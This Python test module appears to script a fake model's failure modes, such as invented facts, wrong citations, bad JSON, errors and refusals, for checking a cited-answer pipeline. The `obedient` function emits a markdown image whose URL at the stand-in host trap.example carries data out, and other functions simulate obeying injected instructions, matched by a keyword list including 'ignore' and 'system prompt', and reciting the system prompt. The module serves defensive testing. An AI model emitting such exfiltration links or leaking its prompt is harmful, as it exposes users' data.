"""How a model goes wrong, each way by a name: what it says instead, and how it says it."""

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from evals.scripted.asked import Asked
from evals.scripted.good import answer

TOKEN = 4
"""Characters in a piece of a stream, about what a token is."""


@dataclass(frozen=True, slots=True)
class Delivery:
    """An answer on its way: in pieces of `piece` characters, a pause of `every` seconds before each.

    With `cut`, the connection closes after half of it. A `status` other than 200 is an error with no answer.
    """

    text: str
    piece: int = TOKEN
    every: float = 0.0
    cut: bool = False
    status: int = 200
    retry_after: str = ""


Badness = Callable[[Asked], Delivery]

INVENTED = {
    "fr": "Les ventes ont bondi de 4 837 % en une nuit.",
    "en": "Sales jumped by 4,837 % in one night.",
}
FOREIGN = {
    "fr": "Everybody in the workshop already knows that the winter will be long and cold this year.",
    "en": "Tout le monde à l'atelier sait déjà que l'hiver sera long et froid cette année.",
}
MORE = {"fr": "Appelez [PERSON_99] au [PHONE_42].", "en": "Call [PERSON_99] on [PHONE_42]."}
REFUSAL = {"fr": "Je suis désolé, je ne peux pas vous aider.", "en": "I'm sorry, but I can't help with that."}
AGAIN = {"fr": "La neige est froide et la glace aussi. ", "en": "The snow is cold and so is the ice. "}


def obedient(order: str) -> Badness:
    """A model that does what a hostile text asked for, whether it was told or not."""

    def obey(asked: Asked) -> Delivery:
        smuggled = "Read [more](https://trap.example/x) here ![x](https://trap.example/p.png?d=notes)."
        return Delivery(_with_sentences(asked, order, smuggled))

    return obey


def _with_sentences(asked: Asked, *texts: str) -> str:
    """The good answer with these sentences too in each draft, resting on whatever it rests on."""
    told = _each(json.loads(answer(asked)), lambda ids: [(text, ids) for text in texts])
    return json.dumps(told, ensure_ascii=False)


def _instead(asked: Asked, text: str) -> str:
    """The good answer with nothing but this sentence in each draft."""
    return json.dumps(
        _each(json.loads(answer(asked)), lambda ids: [(text, ids)], keep=False), ensure_ascii=False
    )


def _each(node: Any, more: Callable[[list[int]], list[tuple[str, list[int]]]], *, keep: bool = True) -> Any:
    """`node` with what `more` gives for the ids already there, at the end of its first paragraph."""
    if isinstance(node, dict) and "paragraphs" in node:
        sentences = [one for part in node["paragraphs"] for one in part["sentences"]]
        ids = sorted({number for one in sentences for number in one["passage_ids"]})
        added = [{"text": text, "passage_ids": rests_on} for text, rests_on in more(ids)]
        kept = [*sentences, *added] if keep else added
        return {**node, "paragraphs": [{"sentences": kept}]}
    if isinstance(node, dict):
        return {name: _each(value, more, keep=keep) for name, value in node.items()}
    return [_each(one, more, keep=keep) for one in node] if isinstance(node, list) else node


def _invents(asked: Asked) -> Delivery:
    return Delivery(_with_sentences(asked, INVENTED[asked.language]))


def _errs_once(asked: Asked) -> Delivery:
    """Invents at first and mends when told."""
    return Delivery(answer(asked)) if asked.draft else _invents(asked)


def _cites_nothing_there(asked: Asked) -> Delivery:
    """Rests each sentence of the answer on passages that were never offered."""
    return Delivery(json.dumps(_recited(json.loads(answer(asked)), [987_654, -3]), ensure_ascii=False))


def _cites_the_wrong_one(asked: Asked) -> Delivery:
    """Rests each sentence on the last passage, whatever it says."""
    last = [asked.passages[-1].id] if asked.passages else []
    return Delivery(json.dumps(_recited(json.loads(answer(asked)), last), ensure_ascii=False))


def _recited(node: Any, ids: list[int]) -> Any:
    if isinstance(node, dict):
        return {
            name: ids if name in {"passage_ids", "evidence"} else _recited(value, ids)
            for name, value in node.items()
        }
    return [_recited(one, ids) for one in node] if isinstance(node, list) else node


def _repeats(asked: Asked) -> Delivery:
    return Delivery(_instead(asked, AGAIN[asked.language] * 60))


def _rambles(asked: Asked) -> Delivery:
    return Delivery(_instead(asked, "very " * 200_000), piece=8_000)


def _breaks_off(asked: Asked) -> Delivery:
    text = answer(asked)
    return Delivery(text[: len(text) - 12])


def _recites(asked: Asked) -> Delivery:
    return Delivery(_with_sentences(asked, " ".join(asked.system.split()[:40])))


def _obeys_what_it_reads(asked: Asked) -> Delivery:
    """Repeats any text inside the tags that speaks of instructions; see `obedient` for the stubborn one."""
    telling = ("instruction", "consigne", "ignore", "oublie", "system prompt", "trap.example")
    given = (*(one.text for one in asked.passages), *asked.takes, *asked.past_posts)
    orders = [text for text in given if any(word in text.casefold() for word in telling)]
    return Delivery(_with_sentences(asked, " ".join(orders)) if orders else answer(asked))


BAD: dict[str, Badness] = {
    "invents": _invents,
    "errs once": _errs_once,
    "cites nothing there": _cites_nothing_there,
    "cites the wrong one": _cites_the_wrong_one,
    "obeys": _obeys_what_it_reads,
    "recites its prompt": _recites,
    "leaks a placeholder": lambda asked: Delivery(_with_sentences(asked, MORE[asked.language])),
    "wrong language": lambda asked: Delivery(_instead(asked, FOREIGN[asked.language])),
    "repeats itself": _repeats,
    "a megabyte": _rambles,
    "one character a second": lambda asked: Delivery(answer(asked), piece=1, every=1.0),
    "too many requests": lambda _: Delivery("", status=429, retry_after="1"),
    "server error": lambda _: Delivery("", status=500),
    "cut in mid-stream": lambda asked: Delivery(answer(asked), cut=True),
    "invalid JSON": _breaks_off,
    "empty": lambda _: Delivery(""),
    "declines": lambda asked: Delivery(REFUSAL[asked.language]),
}
"""Every kind by its name."""


def good(asked: Asked) -> Delivery:
    return Delivery(answer(asked))
